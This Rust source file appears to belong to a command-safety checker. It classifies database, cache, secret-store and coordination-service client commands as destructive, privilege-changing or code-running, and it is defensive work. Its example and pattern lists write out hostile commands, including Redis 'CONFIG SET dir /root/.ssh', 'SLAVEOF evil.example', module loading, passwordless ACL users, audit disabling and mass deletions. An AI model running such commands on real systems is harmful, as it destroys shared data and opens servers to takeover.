//! Stores without SQL: documents, keys and values, secrets, coordination, search.

use super::databases::WAITS;
use super::options::Grammar;
use super::row::Does::Is;
use super::row::When::{All, Always, Any, Bare, Called, Contains, Fed, Given, Has, Not, Operands, Says};
use super::row::{DRY, DRY_LONG, On, Program, TOOL, allows, asks};
use crate::effect::Kind::{self, Accounts, DropRemote, Unprotect};
use crate::machine::command::Call;
use crate::machine::state::World;
use crate::machine::{Machine, Ran};
use crate::value::Arg;

pub(super) const ROWS: &[Program] = &[
    Program {
        names: &["mongosh", "mongo"],
        grammar: Grammar {
            short: "ufph",
            long: &["eval", "file", "host", "port", "username", "password", "db", "authenticationDatabase"],
            ..Grammar::PLAIN
        },
        custom: Some(documents),
        prompts: &[(
            All(&[Called(&["mongosh"]), Not(&Any(&[Fed, Operands(2), Has(&["--eval", "-f", "--file"])]))]),
            WAITS,
        )],
        examples: examples![
            asks("mongosh --eval 'db.dropDatabase()'", "remote-data"),
            asks("mongo x --eval 'db.users.drop()'", "remote-data"),
            asks("mongosh --eval 'db.getCollection(\"users\").drop( )'", "remote-data"),
            asks("mongosh mongodb://db/shop --eval 'db.users.deleteMany({})'", "remote-data"),
            asks("mongosh --eval 'db.users.remove( { } )'", "remote-data"),
            asks("mongosh --eval 'db.users.updateMany({}, {$set: {a: 1}})'", "remote-data"),
            asks("mongosh --quiet --eval=\"db.runCommand({dropDatabase: 1})\"", "remote-data"),
            asks("echo 'db.users.drop()' | mongosh shop", "remote-data"),
            asks("mongosh shop <<'E'\ndb.dropDatabase()\nE", "remote-data"),
            asks("echo 'db.dropDatabase()' > x.js; mongosh x.js", "remote-data"),
            asks("mongosh --eval 'db.shutdownServer()'", "remote-data"),
            asks("mongosh --eval 'db.createUser({user: \"x\", roles: [\"root\"]})'", "accounts"),
            asks("mongosh --eval 'run(\"id\")'", "hidden-run"),
            allows("mongosh --eval 'db.users.countDocuments()'"),
            allows("mongosh --eval 'db.users.deleteMany({expired: true})'"),
            allows("mongosh --eval 'db.users.find({}).limit(5)'"),
            allows("mongo --version"),
        ],
        ..TOOL
    },
    Program {
        names: &["mongorestore", "mongoimport", "mongosync", "mongorepair"],
        effects: &[On(
            Has(&["--drop", "--drop=true"]),
            Is(DropRemote, "This would drop each collection before filling it."),
        )],
        spares: DRY_LONG,
        examples: examples![
            asks("mongorestore --drop --uri mongodb://db dump/", "remote-data"),
            asks("mongoimport --drop -d shop -c users users.json", "remote-data"),
            allows("mongorestore dump/"),
            allows("mongorestore --drop --dryRun --dry-run dump/"),
        ],
        ..TOOL
    },
    Program {
        names: &["redis-cli", "valkey-cli", "keydb-cli", "dragonfly-cli", "iredis"],
        grammar: Grammar {
            short: "hpasnrioudtDX",
            long: &[
                "user", "pass", "pattern", "eval", "rdb", "pipe-timeout", "cacert", "cert", "key", "sni", "cluster",
                "hostname",
            ],
            ..Grammar::PLAIN
        },
        custom: Some(keys),
        prompts: &[(All(&[Bare, Not(&Fed)]), WAITS)],
        examples: examples![
            asks("redis-cli FLUSHALL", "remote-data"),
            asks("redis-cli -h cache.example.com -n 2 flushdb async", "remote-data"),
            asks("redis-cli --raw FlushAll", "remote-data"),
            asks("redis-cli -u redis://cache SHUTDOWN NOSAVE", "remote-data"),
            asks("redis-cli CONFIG SET dir /root/.ssh", "hidden-run"),
            asks("redis-cli config set requirepass ''", "security-off"),
            asks("redis-cli EVAL \"return redis.call('flushall')\" 0", "remote-data"),
            asks("redis-cli MODULE LOAD /tmp/x.so", "hidden-run"),
            asks("redis-cli SLAVEOF evil.example 6379", "remote-data"),
            asks("redis-cli KEYS 'session:*' | xargs redis-cli DEL", "remote-data"),
            asks("redis-cli --scan --pattern '*' | xargs -n 100 redis-cli unlink", "remote-data"),
            asks("echo FLUSHALL | redis-cli", "remote-data"),
            asks("redis-cli <<'E'\nselect 1\nflushdb\nE", "remote-data"),
            asks("valkey-cli flushall", "remote-data"),
            asks("redis-cli cluster reset hard", "remote-data"),
            asks("redis-cli --cluster del-node a:1 id", "remote-data"),
            asks("redis-cli ACL SETUSER evil on allkeys +@all nopass", "accounts"),
            allows("redis-cli get key"),
            allows("redis-cli -n 1 del session:42"),
            allows("redis-cli config get maxmemory"),
            allows("redis-cli --scan --pattern 'x*'"),
            allows("redis-cli info memory"),
            allows("redis-cli ping"),
        ],
        ..TOOL
    },
    Program {
        names: &["memcflush", "memcrm"],
        effects: &[On(Always, Is(DropRemote, "This would empty a cache that others use."))],
        spares: DRY,
        examples: examples![asks("memcflush --servers=cache:11211", "remote-data"), allows("memcflush --help")],
        ..TOOL
    },
    Program {
        names: &["etcdctl", "etcdutl"],
        grammar: Grammar {
            long: &["endpoints", "cacert", "cert", "key", "user", "password", "command-timeout", "dial-timeout"],
            flags: &["prefix", "from-key"],
            ..Grammar::PLAIN
        },
        effects: &[
            On(
                Any(&[
                    All(&[Says(&["del"]), Given(&["prefix", "from-key"])]),
                    All(&[Says(&["del * *"])]),
                    Says(&[
                        "rmdir", "rm", "member remove", "auth disable", "user delete", "role delete", "lease revoke",
                    ]),
                    All(&[Says(&["snapshot restore"]), Given(&["force-new-cluster"])]),
                ]),
                Is(DropRemote, "This would delete data of the cluster{where}:{names}."),
            ),
            On(Says(&["auth disable"]), Is(Unprotect, "This would let anybody change the cluster{where}.")),
        ],
        spares: DRY,
        examples: examples![
            asks("etcdctl del --prefix /app", "remote-data"),
            asks("etcdctl --endpoints https://etcd:2379 del '' --from-key", "remote-data"),
            asks("etcdctl member remove 8211f1d0f64f3269", "remote-data"),
            allows("etcdctl del /app/one"),
            allows("etcdctl get / --prefix --keys-only"),
            allows("etcdctl snapshot save backup.db"),
        ],
        ..TOOL
    },
    Program {
        names: &["consul"],
        grammar: Grammar {
            long: &["http-addr", "token", "datacenter", "namespace"],
            single_dash: true,
            ..Grammar::PLAIN
        },
        effects: &[On(
            Any(&[
                All(&[Says(&["kv delete"]), Has(&["-recurse", "-recurse=true", "--recurse"])]),
                Says(&[
                    "leave", "force-leave", "acl token|policy|role delete", "config delete", "snapshot restore",
                    "operator raft remove-peer", "namespace delete", "partition delete", "intention delete",
                    "services deregister", "peering delete",
                ]),
            ]),
            Is(DropRemote, "This would delete data of the cluster{where}:{names}."),
        )],
        spares: DRY,
        examples: examples![
            asks("consul kv delete -recurse app/", "remote-data"),
            asks("consul snapshot restore x.snap", "remote-data"),
            asks("consul acl token delete -id x", "remote-data"),
            allows("consul kv delete app/one"),
            allows("consul kv get -recurse app/"),
            allows("consul members"),
        ],
        ..TOOL
    },
    Program {
        names: &["vault", "bao"],
        grammar: Grammar {
            long: &["address", "namespace", "ca-cert", "mount", "versions"],
            single_dash: true,
            ..Grammar::PLAIN
        },
        effects: &[
            On(
                Says(&[
                    "delete", "kv destroy", "kv metadata delete", "secrets disable", "auth disable", "policy delete",
                    "lease revoke", "token revoke", "operator raft remove-peer", "namespace delete",
                    "plugin deregister", "operator step-down", "operator rekey", "kv delete *",
                ]),
                Is(DropRemote, "This would delete secrets or access of the vault{where}:{names}."),
            ),
            On(
                Says(&["operator seal", "audit disable"]),
                Is(Unprotect, "This would seal the vault or stop its audit log{where}."),
            ),
            On(
                All(&[Says(&["policy write", "write auth/*"]), Not(&Contains(&["default"]))]),
                Is(Accounts, "This would change who may read the vault{where}."),
            ),
        ],
        spares: DRY,
        examples: examples![
            asks("vault kv destroy -versions=1 secret/app", "remote-data"),
            asks("vault secrets disable secret/", "remote-data"),
            asks("vault delete secret/app", "remote-data"),
            asks("vault kv delete secret/one", "remote-data"),
            asks("vault audit disable file/", "security-off"),
            asks("vault policy write admin admin.hcl", "accounts"),
            allows("vault status"),
            allows("vault kv list secret/"),
            allows("vault kv put secret/one a=b"),
        ],
        ..TOOL
    },
    Program {
        names: &["zkCli.sh", "zkcli", "zookeepercli", "zookeeper-shell", "zookeeper-shell.sh"],
        custom: Some(coordination),
        examples: examples![
            asks("zkCli.sh -server zk:2181 deleteall /app", "remote-data"),
            asks("echo 'rmr /app' | zkCli.sh", "remote-data"),
            asks("zookeeper-shell zk:2181 deleteall /brokers", "remote-data"),
            allows("zkCli.sh -server zk:2181 ls /"),
        ],
        ..TOOL
    },
    Program {
        names: &["elasticdump", "esbulk", "curator", "curator_cli", "opensearch-cli"],
        effects: &[On(
            Any(&[
                Says(&[
                    "delete_indices|delete-indices|delete_snapshots",
                    "curl delete",
                    "* delete_indices|delete_snapshots",
                ]),
                All(&[Called(&["curator"]), Not(&Has(&["--dry-run", "--help", "--version"]))]),
                Has(&["--delete", "--delete=true"]),
            ]),
            Is(DropRemote, "This would delete indices of the search cluster."),
        )],
        spares: DRY,
        examples: examples![
            asks("curator --config c.yml action.yml", "remote-data"),
            asks("curator_cli --host es delete_indices --filter_list '[]'", "remote-data"),
            asks("elasticdump --input=http://es/x --output=$ --delete=true", "remote-data"),
            allows("curator --dry-run action.yml"),
            allows("elasticdump --input=http://es/x --output=x.json"),
        ],
        ..TOOL
    },
    Program {
        names: &["cbq", "couchbase-cli", "cbrestore"],
        grammar: Grammar {
            short: "cupes",
            long: &["cluster", "username", "password", "bucket", "engine", "script"],
            ..Grammar::PLAIN
        },
        effects: &[On(
            Says(&["bucket-delete|bucket-flush|server-readd|rebalance|failover|node-reset"]),
            Is(DropRemote, "This would delete or empty a bucket of the database cluster{where}."),
        )],
        spares: DRY,
        examples: examples![
            asks("couchbase-cli bucket-delete -c db --bucket shop", "remote-data"),
            asks("couchbase-cli bucket-flush -c db --bucket shop --force", "remote-data"),
            allows("couchbase-cli bucket-list -c db"),
        ],
        ..TOOL
    },
    Program {
        names: &["aerospike-admin", "asadm", "aql", "tiup", "tikv-ctl", "tdsql", "ysqladmin", "yb-admin"],
        effects: &[On(
            Says(&[
                "cluster destroy|clean|scale-in",
                "clean",
                "delete_table|delete_namespace|delete_snapshot",
                "truncate",
            ]),
            Is(DropRemote, "This would delete data of the database cluster{names}."),
        )],
        spares: DRY,
        examples: examples![
            asks("tiup cluster destroy prod", "remote-data"),
            asks("yb-admin delete_table ysql.shop users", "remote-data"),
            allows("tiup cluster display prod"),
        ],
        ..TOOL
    },
];

/// Statements of a shell for documents: in `--eval`, in a file that this command wrote, on its input.
fn documents(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    let mut texts: Vec<(String, Arg)> = call.args.iter().map(|arg| (arg.text.display(), arg.clone())).collect();
    texts.extend(call.input.text.iter().map(|text| (text.clone(), Arg::known(text.clone(), call.span))));
    for arg in &call.args {
        let read = machine.read(&arg.text, world).text;
        texts.extend(read.filter(|text| !text.is_empty()).map(|text| (text, arg.clone())));
    }

    for (text, arg) in texts {
        let packed: String = text.chars().filter(|c| !c.is_whitespace() && *c != '\'' && *c != '"').collect();
        if let Some((kind, reason)) = document_statement(&packed) {
            machine.state(kind, reason, arg.span, None);
        }
    }
    None
}

/// What a text of statements, without blanks and quotes, does.
fn document_statement(packed: &str) -> Option<(Kind, &'static str)> {
    const DROPS: [&str; 14] = [
        "dropDatabase", ".drop()", ".drop({", ".deleteMany({})", ".remove({})", ".remove()", ".deleteMany()",
        "dropUser(", "dropAllUsers", "dropRole(", "dropIndexes()", "{drop:", ".updateMany({},", ".findAndDelete({})",
    ];
    const ADMITS: [&str; 4] = ["grantRolesToUser(", "roles:[root", "role:root", "userAdminAnyDatabase"];
    const RUNS: [&str; 5] = ["child_process", "run(", "runProgram(", "load(/tmp", "load(http"];
    let has = |marks: &[&str]| marks.iter().any(|mark| packed.contains(mark));

    if has(&DROPS) {
        return Some((DropRemote, "This would delete documents, collections or databases."));
    }
    if packed.contains("shutdownServer(") || packed.contains("rs.remove(") || packed.contains("{shutdown:") {
        return Some((DropRemote, "This would stop a database server or take it out of its set."));
    }
    if has(&ADMITS) {
        return Some((Accounts, "This would give somebody all rights over the database."));
    }
    let starts_run = RUNS.iter().any(|mark| packed.starts_with(mark) || packed.contains(&format!(";{mark}")));
    (starts_run || packed.contains("child_process"))
        .then_some((Kind::RunHidden, "This lets the database client run a command."))
}

/// Commands of Redis: its operands, or lines on its input.
fn keys(machine: &mut Machine<'_>, call: &Call, _: &mut World) -> Option<Ran> {
    const GRAMMAR: Grammar = Grammar {
        short: "hpasnrioudtDX",
        long: &["user", "pass", "pattern", "eval", "rdb", "cacert", "cert", "key", "sni"],
        stops: true,
        ..Grammar::PLAIN
    };
    let options = super::options::Options::read(&call.args, &GRAMMAR);
    let host = options.value(&["h", "u"]).map(|host| format!(" on `{}`", host.text.display())).unwrap_or_default();
    let words: Vec<String> = options.operands.iter().map(|arg| arg.text.display()).collect();
    let mut lines = vec![words.join(" ")];
    lines.extend(call.input.text.iter().flat_map(|text| text.lines().map(str::to_owned)));

    let deletes = words.first().is_some_and(|verb| ["DEL", "UNLINK"].iter().any(|own| verb.eq_ignore_ascii_case(own)));
    let is_search = |arg: &Arg| !arg.text.is_decided() && arg.text.known_start().is_empty();
    if deletes && (options.operands.len() == 1 || options.operands.iter().skip(1).any(is_search)) {
        let reason = format!("This would delete every key that a search finds{host}.");
        machine.state(DropRemote, reason, call.span, None);
    }
    if options.has(&["cluster"]) && words.iter().any(|word| ["del-node", "reshard", "call"].contains(&word.as_str())) {
        machine.state(DropRemote, format!("This would change the nodes of the cluster{host}."), call.span, None);
    }
    for line in lines {
        if let Some((kind, reason)) = key_command(&line.trim().to_ascii_uppercase()) {
            machine.state(kind, format!("{reason}{host}."), call.span, None);
        }
    }
    None
}

/// What a command of Redis, in capitals, does.
fn key_command(upper: &str) -> Option<(Kind, &'static str)> {
    let mut words = upper.split_whitespace();
    let (first, second, third) =
        (words.next().unwrap_or_default(), words.next().unwrap_or_default(), words.next().unwrap_or_default());
    match (first, second) {
        ("FLUSHALL" | "FLUSHDB", _) => Some((DropRemote, "This would empty the database")),
        ("SHUTDOWN", _) => Some((DropRemote, "This would stop the database server")),
        ("SLAVEOF" | "REPLICAOF", host) if host != "NO" => {
            Some((DropRemote, "This would replace all data with that of another server"))
        }
        ("SWAPDB", _)
        | ("CLUSTER", "RESET" | "FORGET" | "FLUSHSLOTS")
        | ("SCRIPT", "FLUSH")
        | ("FUNCTION", "FLUSH" | "DELETE") => Some((DropRemote, "This would change which data the server has")),
        ("CONFIG", "SET") if matches!(third, "DIR" | "DBFILENAME" | "LOGFILE" | "UNIXSOCKET") => {
            Some((Kind::RunHidden, "This makes the database write a file of any name"))
        }
        ("CONFIG", "SET") if matches!(third, "REQUIREPASS" | "PROTECTED-MODE" | "BIND" | "MASTERAUTH") => {
            Some((Unprotect, "This would change who may use the database"))
        }
        ("MODULE", "LOAD" | "LOADEX") | ("DEBUG", _) => {
            Some((Kind::RunHidden, "This loads code into the database server"))
        }
        ("ACL", "SETUSER" | "DELUSER" | "LOAD") => Some((Accounts, "This would change who may use the database")),
        ("EVAL" | "EVALSHA" | "FCALL", _)
            if ["FLUSH", "'DEL'", "\"DEL\"", "UNLINK", "SHUTDOWN"].iter().any(|word| upper.contains(word)) =>
        {
            Some((DropRemote, "This script would delete keys of the database"))
        }
        _ => None,
    }
}

/// Commands of a coordination service: its words, or lines on its input.
fn coordination(machine: &mut Machine<'_>, call: &Call, _: &mut World) -> Option<Ran> {
    const DELETES: [&str; 4] = ["deleteall", "rmr", "delete", "reconfig"];
    let words = call.args.iter().map(|arg| arg.text.display());
    let input = call.input.text.iter().flat_map(|text| text.split_whitespace().map(str::to_owned));
    if words.chain(input).any(|word| DELETES.contains(&word.as_str())) {
        machine.state(DropRemote, "This would delete nodes with everything below them.", call.span, None);
    }
    None
}
